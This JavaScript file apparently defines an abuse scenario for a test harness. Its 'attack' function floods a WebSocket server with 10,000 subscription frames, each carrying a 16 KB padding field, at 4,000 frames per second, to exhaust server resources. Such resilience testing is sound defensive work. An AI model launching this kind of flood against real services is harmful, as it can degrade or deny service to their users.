/** Subscribes to 10,000 topics with 16 KiB of extra fields each. */
const TOPICS = 10_000;
const value = 'x'.repeat(16_000);

export async function attack(stranger) {
  const socket = await stranger.webSocket();
  await stranger.send(socket, frames(), { perSecond: 4000 });
}

function* frames() {
  for (let i = 0; i < TOPICS; i++) yield `{"event":"subscribe","subscription":"extra.${i}","q":"${value}"}`;
}
